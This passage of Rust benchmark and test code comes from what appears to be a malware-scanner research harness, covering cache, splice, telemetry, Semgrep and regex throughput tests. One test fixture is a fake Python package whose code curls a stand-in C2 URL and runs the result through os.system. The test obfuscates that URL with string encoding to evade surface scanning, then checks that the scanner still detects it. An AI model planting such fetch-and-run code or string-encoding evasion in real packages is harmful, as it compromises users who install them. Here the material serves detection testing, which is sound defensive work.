        out.push_str(&format!(
            "splice stage: {} samples, p50 {:.1}us, p99 {:.1}us\n",
            splice.count,
            splice.p50_ns as f64 / 1e3,
            splice.p99_ns as f64 / 1e3,
        ));
    }
    out
}

/// The one-line arm as a JSON fragment for `BENCH_scanhub.json`.
pub fn to_json_oneline(s: &OnelineBenchStats) -> jsonmini::Value {
    let mut doc = jsonmini::Value::object();
    doc.insert("workload", "version_bump_oneline");
    doc.insert("files", s.files);
    doc.insert("lines", s.lines);
    doc.insert("versions", s.versions);
    doc.insert("runs", s.runs);
    doc.insert("full_ms", s.full_ms);
    doc.insert("spliced_ms", s.spliced_ms);
    doc.insert("full_spread_pct", s.full_spread_pct);
    doc.insert("spliced_spread_pct", s.spliced_spread_pct);
    doc.insert("speedup", s.speedup());
    doc.insert("incremental_relexes", s.incremental_relexes as usize);
    doc.insert("splice_fallbacks", s.splice_fallbacks as usize);
    doc.insert("fallback_rate", s.fallback_rate());
    doc.insert("relexed_bytes", s.relexed_bytes as usize);
    doc.insert("content_bytes", s.content_bytes as usize);
    doc
}

#[cfg(test)]
mod tests {
    use super::*;
    use obfuscate::{EvasionProfile, Obfuscator, Transform};
    use oss_registry::{Ecosystem, Package, PackageMetadata, SourceFile};

    /// Release-mode CI smoke: a re-submitted corpus performs **zero**
    /// re-analyses, the warm parse count equals the unique digest
    /// count, and the version-bump speedup clears the acceptance floor.
    #[test]
    fn scanhub_artifact_cache_smoke() {
        let stats = compare(50, 20, 42);
        println!("{}", render(&stats));
        assert_eq!(stats.warm_parses, stats.unique_digests);
        assert!(stats.warm_hits > 0);
        // 50 base files + 20 rewritten + 20 PKG-INFO stamps, minus the
        // base files the rewrites replaced in their own version only.
        assert!(stats.unique_digests < stats.total_entries / 2);
        // The acceptance bar is >=5x, enforced only in release mode
        // (the dedicated CI artifact-cache job): debug builds run this
        // test in parallel with the whole workspace suite, where
        // scheduling noise could flake a wall-clock ratio.
        if !cfg!(debug_assertions) {
            assert!(
                stats.speedup() >= 5.0,
                "version-bump warm speedup {:.1}x below 5x floor",
                stats.speedup()
            );
        }

        // Zero re-parses on a full re-submission of the same corpus.
        let yara = yara_ruleset(40);
        let requests = version_stream(10, 4, 7);
        let hub = ScanHub::new(
            Some(yara),
            None,
            HubConfig {
                cache_capacity: 0,
                ..HubConfig::default()
            },
        );
        let first = hub.scan_ordered(requests.iter().cloned());
        let parses = hub.stats().artifact_parses;
        let second = hub.scan_ordered(requests.iter().cloned());
        assert_eq!(first, second);
        assert_eq!(
            hub.stats().artifact_parses,
            parses,
            "re-submitted corpus re-analyzed a file"
        );
        assert_eq!(hub.stats().semgrep_pattern_reparses, 0);
    }

    /// Release-mode CI smoke for incremental artifacts (ISSUE 10): on a
    /// stream where *every* Python file takes a one-line bump per
    /// release — so the digest cache can serve nothing — diff-and-splice
    /// must engage for every bump, re-lex only a sliver of the content,
    /// and clear the 5x wall-clock floor over full reparsing with
    /// byte-identical verdicts (asserted inside `compare_oneline`).
    #[test]
    fn scanhub_oneline_splice_smoke() {
        let (files, lines, versions) = (12, 360, 8);
        let stats = compare_oneline(files, lines, versions);
        println!("{}", render_oneline(&stats));
        assert_eq!(
            stats.incremental_relexes,
            (files * (versions - 1)) as u64,
            "every one-line bump must splice"
        );
        assert_eq!(stats.splice_fallbacks, 0, "deterministic bumps never bail");
        // The splice windows are a sliver of the stream: a one-line
        // edit must not re-lex whole files.
        assert!(
            stats.relexed_bytes * 20 < stats.content_bytes,
            "windows ({} bytes) too large for {} content bytes",
            stats.relexed_bytes,
            stats.content_bytes
        );
        // The nested splice stage recorded one sample per request that
        // spliced (stage laps are per scan, like every other stage).
        assert_eq!(stats.warm_stats.latency.splice.count, (versions - 1) as u64);
        if !cfg!(debug_assertions) {
            assert!(
                stats.speedup() >= 5.0,
                "one-line bump splice speedup {:.1}x below the 5x floor",
                stats.speedup()
            );
        }
    }

    /// Release-mode CI smoke: string-encoding a payload out of surface
    /// text must not blind the scanner — decoded-layer scanning
    /// recovers the IOC with full provenance, and turning layers off
    /// reproduces the surface-only verdict exactly.
    #[test]
    fn scanhub_decoded_layer_smoke() {
        let rules =
            yara_engine::compile("rule c2 { strings: $u = \"bexlum-c2.example\" condition: $u }")
                .expect("compile");
        let pkg = Package::new(
            PackageMetadata::new("innocent-utils", "3.2.1"),
            vec![SourceFile::new(
                "innocent/net.py",
                "C2 = 'http://bexlum-c2.example/run.sh'\n\ndef phone_home():\n    import os\n    os.system('curl ' + C2)\n",
            )],
            Ecosystem::PyPi,
        );
        // The obfuscator hides the C2 literal behind encode expressions;
        // seeds are scanned until one picks hex or base64 for it (the
        // split transform is out of scope for layer decoding).
        let profile = EvasionProfile::single(Transform::EncodeStrings);
        let mutant = (0..16)
            .map(|seed| Obfuscator::new(profile.clone(), seed).obfuscate_package(&pkg))
            .find(|m| {
                let src = m.files()[0].contents.as_str();
                !src.contains("bexlum-c2.example")
                    && (src.contains("fromhex") || src.contains("b64decode"))
            })
            .expect("some seed hex/base64-encodes the C2 literal");

        // The behavior engine is off in both arms: its constant folder
        // also rebuilds decode chains (a Folded layer catches this C2
        // even at depth 0), and this smoke isolates decoded-layer
        // scanning specifically.
        let layered = ScanHub::new(
            Some(rules.clone()),
            None,
            HubConfig {
                dataflow: false,
                ..HubConfig::default()
            },
        );
        let surface_only = ScanHub::new(
            Some(rules),
            None,
            HubConfig {
                max_decode_depth: 0,
                dataflow: false,
                ..HubConfig::default()
            },
        );
        let blind = surface_only
            .submit(ScanRequest::from_package(&mutant))
            .wait();
        assert!(
            !blind.flagged(),
            "surface-only scan was expected to miss the encoded C2"
        );
        let seeing = layered.submit(ScanRequest::from_package(&mutant)).wait();
        assert!(seeing.flagged(), "decoded-layer scan missed the payload");
        let finding = &seeing.layers[0];
        assert_eq!(finding.rule, "c2");
        assert_eq!(finding.file, "innocent/net.py");
        assert!(finding.depth >= 1);
        // Surface verdicts agree between the two configurations.
        assert_eq!(seeing.yara, blind.yara);
    }

    /// Release-mode CI smoke: the always-on telemetry layer (stage
    /// clocks, histogram records, trace build + ring push) costs under
    /// 3% of wall time on the warm version-bump workload.
    ///
    /// Methodology: end-to-end on/off wall-clock differencing cannot
    /// resolve a ~1% effect on shared CI hosts — paired interleaved
    /// runs of this workload show ±10% run-to-run drift, an order of
    /// magnitude above the signal. So the smoke measures the two
    /// factors separately, each with a noise-robust estimator: the
    /// per-scan instrumentation cost in a tight loop over the exact
    /// operations the hub performs per completed scan (amortizing
    /// scheduler noise over thousands of iterations), and the scan cost
    /// as the median scan wall time from the hub's own histogram (a
    /// robust statistic over 60 warm scans). The informational on/off
    /// wall comparison is still printed for eyeballing.
    #[test]
    fn scanhub_telemetry_overhead_smoke() {
        let yara = yara_ruleset(40);
        // The canonical version-bump dimensions (50 files x 20
        // versions): per-request scan work is in the milliseconds, so
        // the fixed per-scan instrumentation cost is measured against a
        // realistic denominator rather than a toy one.
        let requests = version_stream(50, 20, 42);
        let hub = ScanHub::new(
            Some(yara.clone()),
            Some(semgrep_scan::ruleset(20)),
            HubConfig {
                cache_capacity: 0,
                artifact_cache_capacity: 8192,
                ..HubConfig::default()
            },
        );
        // One artifact-building pass, then three warm steady-state
        // passes: the histogram median below describes warm scans.
        for _ in 0..4 {
            let _ = hub.scan_ordered(requests.iter().cloned());
        }
        // Denominator: mean per-scan *service* time. The batch submit
        // front-loads the queue, so raw wall times are mostly queue
        // wait; means subtract exactly (mean(wall - queue) =
        // mean(wall) - mean(queue)), unlike percentiles.
        let latency = hub.stats().latency;
        let service_ns =
            (latency.scan.sum_ns - latency.queue.sum_ns) as f64 / latency.scan.count as f64;
        assert!(service_ns > 0.0, "scan histogram is empty");
        // The per-scan trace payload, at this workload's median
        // fired-rule count (cloning it repeats the same allocations the
        // worker's fired-rule expansion performs).
        let mut traces = hub.traces();
        traces.sort_by_key(|t| t.fired.len());
        let sample = traces[traces.len() / 2].clone();

        // Tight loop over one scan's worth of instrumentation: the ~12
        // monotonic clock reads (submit stamp, enqueue stamp, queue
        // wait, wall, clock start + 6-7 stage laps), the 9 histogram
        // records, and the trace build + ring push (at ring capacity,
        // so every push also evicts — the steady-state worst case).
        let hists: Vec<telemetry::Histogram> =
            (0..9).map(|_| telemetry::Histogram::new()).collect();
        let ring = telemetry::FlightRecorder::new(HubConfig::default().trace_capacity);
        for _ in 0..ring.capacity() {
            ring.record_with(|seq| {
                let mut t = sample.clone();
                t.seq = seq;
                t
            });
        }
        let iters = 2_000u64;
        let start = Instant::now();
        for i in 0..iters {
            let mut acc = 0u64;
            for _ in 0..6 {
                acc = acc.wrapping_add(Instant::now().elapsed().as_nanos() as u64);
            }
            std::hint::black_box(acc);
            for h in &hists {
                h.record(1 + i);
            }
            ring.record_with(|seq| {
                let mut t = sample.clone();
                t.seq = seq;
                t
            });
        }
        let cost_ns = start.elapsed().as_nanos() as f64 / iters as f64;
        let overhead = cost_ns / service_ns;
        println!(
            "instrumentation {cost_ns:.0}ns/scan over mean service {:.1}us: overhead {:.2}% \
             ({} fired rules in the sample trace)",
            service_ns / 1e3,
            overhead * 100.0,
            sample.fired.len(),
        );
        // Informational only — see the methodology note above.
        let on_ms = timed_warm_run(&requests, &yara, true);
        let off_ms = timed_warm_run(&requests, &yara, false);
        println!(
            "wall comparison (noisy, not asserted): on {on_ms:.1}ms, off {off_ms:.1}ms ({:+.2}%)",
            (on_ms / off_ms - 1.0) * 100.0
        );
        // Enforced only in release mode, like every wall-clock assertion
        // in this module: debug runs share the machine with the whole
        // workspace suite.
        if !cfg!(debug_assertions) {
            assert!(
                overhead < 0.03,
                "telemetry overhead {:.2}% breaches the 3% budget",
                overhead * 100.0
            );
        }
    }

    /// Release-mode CI smoke: the cached behavior engine stays under
    /// 10% of warm scan time. Taint runs at artifact-build time, so a
    /// warm scan pays only the per-scan flow aggregation — measured
    /// here as the `dataflow` stage's share of total scan service time
    /// from the hub's own histograms (the same noise-robust estimator
    /// as the telemetry smoke; raw on/off wall differencing drifts
    /// ±10% on shared hosts and is printed for eyeballing only).
    #[test]
    fn scanhub_dataflow_overhead_smoke() {
        let yara = yara_ruleset(40);
        let requests = version_stream(50, 20, 42);
        let run = |dataflow: bool| {
            let hub = ScanHub::new(
                Some(yara.clone()),
                Some(semgrep_scan::ruleset(20)),
                HubConfig {
                    cache_capacity: 0,
                    artifact_cache_capacity: 8192,
                    dataflow,
                    ..HubConfig::default()
                },
            );
            // One artifact-building pass, then timed warm passes.
            let _ = hub.scan_ordered(requests.iter().cloned());
            let start = Instant::now();
            for _ in 0..3 {
                let _ = hub.scan_ordered(requests.iter().cloned());
            }
            (start.elapsed().as_secs_f64() * 1e3, hub.stats())
        };
        let (on_ms, stats) = run(true);
        let (off_ms, _) = run(false);
        assert!(stats.taint_analyses > 0, "workload never ran the engine");
        assert!(stats.flows_found > 0, "workload carries no flows");
        let latency = &stats.latency;
        let service_ns = (latency.scan.sum_ns - latency.queue.sum_ns) as f64;
        let ratio = latency.dataflow.sum_ns as f64 / service_ns;
        println!(
            "dataflow stage: {:.2}% of scan service time | wall on {on_ms:.1}ms off {off_ms:.1}ms \
             ({:+.2}%, noisy, not asserted)",
            ratio * 100.0,
            (on_ms / off_ms - 1.0) * 100.0
        );
        if !cfg!(debug_assertions) {
            assert!(
                ratio < 0.10,
                "cached taint stage is {:.1}% of warm scan time, over the 10% budget",
                ratio * 100.0
            );
        }
    }

    /// The bench JSON carries non-zero p50/p99 for every stage the
    /// acceptance criteria name, and the hub's Prometheus export passes
    /// the line-format validator after a bench workload.
    #[test]
    fn scanhub_metrics_export_smoke() {
        let stats = compare(10, 6, 11);
        let doc = to_json(&stats);
        let latency = doc.get("latency").expect("latency object");
        for counter in ["taint_analyses", "flows_recovered", "consts_folded"] {
            let v = doc
                .get(counter)
                .and_then(jsonmini::Value::as_f64)
                .unwrap_or_else(|| panic!("{counter} missing from bench json"));
            assert!(v > 0.0, "{counter} is zero in bench json");
        }
        for stage in [
            "queue",
            "artifact",
            "prefilter",
            "yara",
            "semgrep",
            "layers",
            "dataflow",
        ] {
            let entry = latency
                .get(stage)
                .unwrap_or_else(|| panic!("stage {stage} missing from bench json"));
            for field in ["p50_ns", "p99_ns"] {
                let v = entry
                    .get(field)
                    .and_then(jsonmini::Value::as_f64)
                    .unwrap_or_else(|| panic!("{stage}.{field} missing"));
                assert!(v > 0.0, "{stage}.{field} is zero in bench json");
            }
        }
        // Display renders the same percentiles for the repro report.
        let table = stats.warm_stats.to_string();
        assert!(table.contains("p99"));
        assert!(table.contains("artifact"));

        // A hub that just ran the workload exports valid Prometheus text.
        let yara = yara_ruleset(40);
        let hub = ScanHub::new(
            Some(yara),
            Some(crate::semgrep_scan::ruleset(20)),
            HubConfig::default(),
        );
        let _ = hub.scan_ordered(version_stream(4, 2, 3));
        let text = hub.export_prometheus();
        telemetry::validate_prometheus(&text).expect("exposition format");
        assert!(text.contains("scanhub_stage_duration_ns_bucket"));
        assert!(text.contains("scanhub_scan_duration_ns_count"));
    }

    #[test]
    fn version_stream_is_deterministic_and_version_shaped() {
        let a = version_stream(8, 3, 9);
        let b = version_stream(8, 3, 9);
        assert_eq!(a.len(), 3);
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.digest(), y.digest());
        }
        // Consecutive versions differ in exactly two entries: the
        // rewritten source and the version stamp.
        let diff = a[0]
            .files()
            .iter()
            .zip(a[1].files())
            .filter(|(x, y)| x.digest() != y.digest())
            .count();
        assert_eq!(diff, 3, "v0 rewrite, v1 rewrite, and the stamp differ");
    }
}

//! Compiled-vs-reparse Semgrep matching comparison (ISSUE 4).
//!
//! Builds a deterministic semgrep-heavy workload — ~100 rules spanning
//! every pattern operator the generators emit (calls, dotted callees,
//! kwargs, assignments, imports, `pattern-either`, `patterns` +
//! `pattern-not`) and a corpus of Python sources salted with rule
//! vocabulary — then times the seed's cost model (re-encode + re-parse
//! every pattern for every rule × file, walk the AST once per rule,
//! via [`semgrep_engine::reference`]) against the compiled single-pass
//! [`semgrep_engine::MatchSet`]. Every comparison asserts the two
//! engines return identical findings, so the speedup table doubles as
//! an equivalence check.

use std::time::Instant;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use semgrep_engine::{CompiledSemgrepRules, MatchScratch, MatchSet};

/// Module names shared by the rule generator and the corpus generator.
const MODS: &[&str] = &[
    "os",
    "sys",
    "socket",
    "requests",
    "subprocess",
    "base64",
    "pickle",
    "urllib",
    "shutil",
    "ctypes",
];

/// Function names shared by the rule generator and the corpus generator.
const FUNCS: &[&str] = &[
    "system",
    "popen",
    "connect",
    "get",
    "post",
    "b64decode",
    "loads",
    "urlopen",
    "rmtree",
    "windll",
    "exec_cmd",
    "stage",
    "beacon",
    "collect",
    "exfil",
    "decode_blob",
];

/// A deterministic semgrep-heavy ruleset of `n` rules cycling through
/// the supported operator shapes over the shared vocabulary.
pub fn ruleset(n: usize) -> CompiledSemgrepRules {
    let mut out = String::from("rules:\n");
    for i in 0..n {
        let m = MODS[i % MODS.len()];
        let f = FUNCS[i % FUNCS.len()];
        let g = FUNCS[(i + 7) % FUNCS.len()];
        out.push_str(&format!(
            "  - id: gen-{i:03}\n    languages: [python]\n    message: generated rule {i}\n"
        ));
        match i % 7 {
            0 => out.push_str(&format!("    pattern: {m}.{f}($A)\n")),
            1 => out.push_str(&format!("    pattern: {f}($A, ...)\n")),
            2 => out.push_str(&format!(
                "    pattern-either:\n      - pattern: {m}.{f}(...)\n      - pattern: {m}.{g}(...)\n"
            )),
            3 => out.push_str(&format!(
                "    patterns:\n      - pattern: {m}.{f}($X)\n      - pattern-not: {m}.{f}('trusted')\n"
            )),
            4 => out.push_str(&format!("    pattern: $V = {m}.{f}(...)\n")),
            5 => out.push_str(&format!("    pattern: import {m}\n")),
            _ => out.push_str(&format!("    pattern: {m}.{f}($C, verify=False)\n")),
        }
    }
    semgrep_engine::compile(&out).expect("generated ruleset compiles")
}

/// A deterministic corpus of `files` Python sources, each around
/// `stmts` statements. Roughly one statement in eight touches the rule
/// vocabulary (hits and near-misses); the rest is unrelated filler, the
/// realistic shape for registry traffic.
pub fn sources(files: usize, stmts: usize, seed: u64) -> Vec<String> {
    let mut rng = StdRng::seed_from_u64(seed);
    (0..files)
        .map(|fi| {
            let mut src = String::new();
            for si in 0..stmts {
                let m = MODS[rng.gen_range(0..MODS.len())];
                let f = FUNCS[rng.gen_range(0..FUNCS.len())];
                match rng.gen_range(0u32..16) {
                    0 => src.push_str(&format!("import {m}\n")),
                    1 => src.push_str(&format!("{m}.{f}(payload_{si})\n")),
                    2 => src.push_str(&format!("x{si} = {m}.{f}(cfg, verify=False)\n")),
                    3 => src.push_str(&format!(
                        "def handler_{fi}_{si}(a, b):\n    return {f}(a, b)\n"
                    )),
                    4 => src.push_str(&format!("{f}(data_{si})\n")),
                    5 => src.push_str(&format!("y{si} = {f}('trusted')\n")),
                    _ => {
                        // Filler that shares no identifier with any rule.
                        let v = rng.gen_range(0u64..1000);
                        src.push_str(&format!("helper_{si} = compute_{fi}(val_{v}, {v})\n"));
                    }
                }
            }
            src
        })
        .collect()
}

/// One workload's measurement.
#[derive(Debug, Clone)]
pub struct SemgrepScanStats {
    /// Rules in the generated set.
    pub rules: usize,
    /// Source files scanned.
    pub files: usize,
    /// Total findings (identical for both engines by assertion).
    pub findings: usize,
    /// Wall-clock milliseconds for the compiled single-pass matcher.
    pub compiled_ms: f64,
    /// Wall-clock milliseconds for the seed's reparse-per-call matcher.
    pub reference_ms: f64,
    /// Pattern-text re-parses the reference engine performed.
    pub reference_reparses: u64,
    /// Statements visited by the compiled matcher's single walks.
    pub stmts_visited: u64,
    /// Structural leaf tests the compiled matcher actually ran after
    /// anchor dispatch.
    pub leaf_tests: u64,
}

impl SemgrepScanStats {
    /// reference / compiled; > 1 means the compiled engine is faster.
    pub fn speedup(&self) -> f64 {
        if self.compiled_ms > 0.0 {
            self.reference_ms / self.compiled_ms
        } else {
            f64::INFINITY
        }
    }
}

/// Runs both engines over a fresh `rule_count`-rule, `files`-file
/// workload, asserting identical findings and timing each.
///
/// Target modules are parsed up front — both cost models parse each
/// source once, so the comparison isolates the matching path.
///
/// # Panics
///
/// Panics if the engines disagree on any finding — the bench doubles as
/// an end-to-end equivalence check.
pub fn compare(rule_count: usize, files: usize, stmts: usize, seed: u64) -> SemgrepScanStats {
    let rules = ruleset(rule_count);
    let corpus = sources(files, stmts, seed);
    let modules: Vec<pysrc::Module> = corpus.iter().map(|s| pysrc::parse_module(s)).collect();

    // The seed's cost model: every rule re-parsed and re-walked per file.
    let reparses_before = semgrep_engine::reference::pattern_reparse_count();
    let t = Instant::now();
    let mut reference_findings: Vec<Vec<(String, usize)>> = Vec::with_capacity(modules.len());
    for module in &modules {
        let mut per_file = Vec::new();
        for rule in &rules.rules {
            per_file.extend(
                semgrep_engine::reference::match_module(rule, module)
                    .into_iter()
                    .map(|f| (f.rule_id, f.line)),
            );
        }
        reference_findings.push(per_file);
    }
    let reference_ms = t.elapsed().as_secs_f64() * 1e3;
    let reference_reparses = semgrep_engine::reference::pattern_reparse_count() - reparses_before;

    // The compiled engine: anchor index built once, one walk per file.
    let set = MatchSet::new(&rules);
    let mut scratch = MatchScratch::new();
    let mut stmts_visited = 0;
    let mut leaf_tests = 0;
    let t = Instant::now();
    let mut compiled_findings: Vec<Vec<(String, usize)>> = Vec::with_capacity(modules.len());
    for module in &modules {
        let (findings, metrics) = set.match_module_set(module, |_| true, &mut scratch);
        assert_eq!(
            metrics.pattern_reparses, 0,
            "compiled path re-parsed a pattern"
        );
        stmts_visited += metrics.stmts_visited;
        leaf_tests += metrics.leaf_tests;
        compiled_findings.push(findings.into_iter().map(|f| (f.rule_id, f.line)).collect());
    }
    let compiled_ms = t.elapsed().as_secs_f64() * 1e3;

    let mut findings = 0;
    for (i, (got, want)) in compiled_findings
        .iter()
        .zip(&reference_findings)
        .enumerate()
    {
        assert_eq!(got, want, "engine divergence on file {i}");
        findings += got.len();
    }

    SemgrepScanStats {
        rules: rule_count,
        files,
        findings,
        compiled_ms,
        reference_ms,
        reference_reparses,
        stmts_visited,
        leaf_tests,
    }
}

/// Renders the comparison as an aligned text table.
pub fn render(stats: &SemgrepScanStats) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "Semgrep scan: compiled single-pass MatchSet vs seed reparse-per-call matcher\n\
         ({} rules x {} files, {} findings, byte-identical verdicts asserted)\n",
        stats.rules, stats.files, stats.findings
    ));
    out.push_str(&format!(
        "{:<28} {:>12} {:>14} {:>9}\n",
        "engine", "time (ms)", "reparses", "speedup"
    ));
    out.push_str(&format!(
        "{:<28} {:>12.2} {:>14} {:>9}\n",
        "seed (reparse-per-call)", stats.reference_ms, stats.reference_reparses, "1.0x"
    ));
    out.push_str(&format!(
        "{:<28} {:>12.2} {:>14} {:>8.1}x\n",
        "compiled (single-pass)",
        stats.compiled_ms,
        0,
        stats.speedup()
    ));
    out.push_str(&format!(
        "compiled work: {} statements visited, {} anchored leaf tests ({:.2} per statement)\n",
        stats.stmts_visited,
        stats.leaf_tests,
        if stats.stmts_visited > 0 {
            stats.leaf_tests as f64 / stats.stmts_visited as f64
        } else {
            0.0
        }
    ));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    /// Serializes the tests that assert on the process-global reparse
    /// counter (tests in one binary run in parallel threads).
    static REPARSE_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());

    #[test]
    fn workload_is_deterministic() {
        assert_eq!(sources(4, 10, 42), sources(4, 10, 42));
        assert_ne!(sources(4, 10, 42), sources(4, 10, 43));
        assert_eq!(ruleset(20).rules.len(), 20);
    }

    #[test]
    fn engines_agree_on_generated_workload() {
        let _guard = REPARSE_LOCK.lock().expect("reparse lock");
        // `compare` asserts equivalence internally; a small corpus keeps
        // the reparse-per-call engine affordable in debug builds.
        let stats = compare(40, 12, 12, 7);
        assert!(stats.findings > 0, "workload must produce findings");
        assert!(stats.reference_reparses > 0, "oracle must have re-parsed");
    }

    /// CI throughput smoke (release mode): the compiled engine must chew
    /// through a 100-rule semgrep-heavy corpus far under a generous
    /// wall-clock ceiling — the seed's reparse-per-call matcher misses it
    /// by an order of magnitude, so its return cannot go unnoticed — and
    /// a full `ScanHub` run over the same corpus must finish with
    /// `semgrep_pattern_reparses == 0`.
    #[test]
    fn semgrep_throughput_smoke() {
        let _guard = REPARSE_LOCK.lock().expect("reparse lock");
        let debug = cfg!(debug_assertions);
        let (files, stmts) = if debug { (10, 10) } else { (150, 40) };
        let rules = ruleset(100);
        let corpus = sources(files, stmts, 42);
        let modules: Vec<pysrc::Module> = corpus.iter().map(|s| pysrc::parse_module(s)).collect();

        let set = semgrep_engine::MatchSet::new(&rules);
        let mut scratch = semgrep_engine::MatchScratch::new();
        let start = std::time::Instant::now();
        let mut findings = 0;
        for module in &modules {
            findings += set.match_module_set(module, |_| true, &mut scratch).0.len();
        }
        let elapsed = start.elapsed();
        assert!(findings > 0, "corpus must trip rules");
        if !debug {
            assert!(
                elapsed < Duration::from_secs(5),
                "semgrep-heavy scan took {elapsed:?}: reparse regression?"
            );
        }

        // Steady-state hub run: pattern re-parsing must never reappear on
        // the service scan path. Two tripwires: the hub's own counter,
        // and — because rerouting the hub through the reference matcher
        // is the realistic way the seed's cost model returns — the
        // process-global reparse counter, which must not move while the
        // hub scans (this test holds the lock, so nobody else bumps it).
        let global_reparses_before = semgrep_engine::reference::pattern_reparse_count();
        let hub = scanhub::ScanHub::new(
            None,
            Some(rules),
            scanhub::HubConfig {
                cache_capacity: 0,
                ..scanhub::HubConfig::default()
            },
        );
        let verdicts = hub.scan_ordered(
            corpus
                .iter()
                .enumerate()
                .map(|(i, s)| scanhub::ScanRequest::from_source(format!("f{i}.py"), s.clone())),
        );
        assert_eq!(verdicts.len(), corpus.len());
        assert!(verdicts.iter().any(|v| !v.semgrep.is_empty()));
        let stats = hub.stats();
        assert_eq!(
            stats.semgrep_pattern_reparses, 0,
            "hub scan path re-parsed pattern text"
        );
        assert!(stats.semgrep_stmts_visited > 0);
        assert_eq!(
            semgrep_engine::reference::pattern_reparse_count(),
            global_reparses_before,
            "hub scan path went through the reparse-per-call matcher"
        );
    }
}

//! `rulellm-bench` — benchmark harness and the `repro` binary.
//!
//! The Criterion benches (one per table/figure, under `benches/`) measure
//! the *cost* of each experiment; the `repro` binary regenerates the
//! *content* of every table and figure in the paper's evaluation section:
//!
//! ```text
//! cargo run -p rulellm-bench --bin repro --release            # everything
//! cargo run -p rulellm-bench --bin repro --release -- --scale small
//! cargo run -p rulellm-bench --bin repro --release -- --only table8
//! ```
//!
//! Scales: `tiny` (seconds), `small` (default, ~a minute), `paper`
//! (full 1,633 + 500 corpus).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use corpus::CorpusConfig;

pub mod regex_scan;
pub mod regexbench;
pub mod retrohunt_bench;
pub mod scanhub_bench;
pub mod semgrep_scan;

/// Resolves a scale name to a corpus configuration.
///
/// # Errors
///
/// Returns the unknown name back as the error.
pub fn scale_config(name: &str) -> Result<CorpusConfig, String> {
    match name {
        "tiny" => Ok(CorpusConfig::tiny()),
        "small" => Ok(CorpusConfig::small()),
        "paper" => Ok(CorpusConfig::paper()),
        other => Err(other.to_owned()),
    }
}

/// Validates a `repro --only <experiment>` selector.
///
/// # Errors
///
/// Returns a message naming the bad selector and listing every valid
/// experiment; the `repro` binary prints it and exits non-zero.
pub fn validate_experiment(name: &str) -> Result<(), String> {
    if EXPERIMENTS.contains(&name) {
        Ok(())
    } else {
        Err(format!("unknown experiment {name}; known: {EXPERIMENTS:?}"))
    }
}

/// The experiment names `repro --only` accepts.
pub const EXPERIMENTS: &[&str] = &[
    "table6",
    "table8",
    "table9",
    "table10",
    "table11",
    "table12",
    "fig5",
    "fig6",
    "fig7",
    "fig8",
    "fig9",
    "fig10",
    "fig11",
    "variants",
    "rag",
    "robustness",
    "regexbench",
    "semgrepbench",
    "scanhubbench",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scales_resolve() {
        assert_eq!(scale_config("tiny").map(|c| c.malware_unique), Ok(30));
        assert_eq!(scale_config("paper").map(|c| c.malware_unique), Ok(1633));
        assert!(scale_config("huge").is_err());
    }

    #[test]
    fn experiment_list_covers_all_tables_and_figures() {
        assert_eq!(EXPERIMENTS.len(), 19);
        assert!(EXPERIMENTS.contains(&"robustness"));
        assert!(EXPERIMENTS.contains(&"regexbench"));
        assert!(EXPERIMENTS.contains(&"semgrepbench"));
        assert!(EXPERIMENTS.contains(&"scanhubbench"));
    }

    #[test]
    fn unknown_experiments_are_rejected_with_the_valid_list() {
        for known in EXPERIMENTS {
            assert_eq!(validate_experiment(known), Ok(()));
        }
        let err = validate_experiment("tabel8").expect_err("typo must be rejected");
        assert!(err.contains("unknown experiment tabel8"));
        for known in EXPERIMENTS {
            assert!(err.contains(known), "error must list {known}");
        }
    }
}

//! Quadratic-vs-linear regex scan comparison (ISSUE 3).
//!
//! Builds a deterministic "regex-heavy" buffer — the worst realistic case
//! for the old engine: dense base64 blobs, IPs, URLs and word-boundary
//! bait that keep NFA threads alive for tens of bytes at every offset —
//! and times the single-pass Pike VM against the seed's
//! restart-per-offset [`ReferenceRegex`] on identical inputs. Every
//! comparison also asserts the two engines return byte-identical
//! matches, so the speedup table doubles as an equivalence check.

use std::time::Instant;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use textmatch::{ReferenceRegex, Regex};

/// Patterns representative of the paper's YARA `strings:` sections, one
/// per acceleration path (first-byte class, literal prefix, word
/// boundary, digit class, alternation prefix).
pub const PATTERNS: &[(&str, &str)] = &[
    ("base64-blob", r"([A-Za-z0-9+/]{4}){8,}(==|=)?"),
    // Requires the `=` padding: long unpadded base64 runs are deep
    // near-misses, the old engine's true quadratic worst case (every
    // offset probes to the end of the run before failing).
    ("b64-padded", r"[A-Za-z0-9+/]{16,}={1,2}"),
    ("ipv4", r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}"),
    ("url", r"https?://[\w.\-/]{8,}"),
    ("os-system", r"os\.system\("),
    ("word-eval", r"\beval\b"),
];

/// One pattern's measurement on one buffer.
#[derive(Debug, Clone)]
pub struct RegexScanRow {
    /// Pattern label from [`PATTERNS`].
    pub name: &'static str,
    /// Matches found (identical for both engines by assertion).
    pub matches: usize,
    /// Wall-clock milliseconds for the single-pass Pike VM.
    pub pike_ms: f64,
    /// Wall-clock milliseconds for the seed's restart-per-offset engine.
    pub reference_ms: f64,
}

impl RegexScanRow {
    /// reference / pike; > 1 means the new engine is faster.
    pub fn speedup(&self) -> f64 {
        if self.pike_ms > 0.0 {
            self.reference_ms / self.pike_ms
        } else {
            f64::INFINITY
        }
    }
}

const B64_ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// A deterministic regex-heavy buffer of (at least) `len` bytes: a cycle
/// of base64 blobs, dotted quads, URLs, `os.system(` calls, `eval` bait
/// and digit-dense filler, with rng-varied content. Every pattern in
/// [`PATTERNS`] is guaranteed to match for `len` above ~1 KiB.
pub fn heavy_buffer(len: usize, seed: u64) -> Vec<u8> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = Vec::with_capacity(len + 256);
    let mut kind = 0usize;
    while out.len() < len {
        match kind % 6 {
            0 => {
                // Base64 blob: 48-248 chars (the size of a realistic
                // encoded payload chunk) — the old engine's worst case,
                // since every interior offset restarts a probe that runs
                // to the end of the blob.
                let n = 48 + (rng.next_u64() % 201) as usize;
                out.extend_from_slice(b"payload = '");
                for _ in 0..n {
                    let i = (rng.next_u64() % 64) as usize;
                    out.push(B64_ALPHABET[i]);
                }
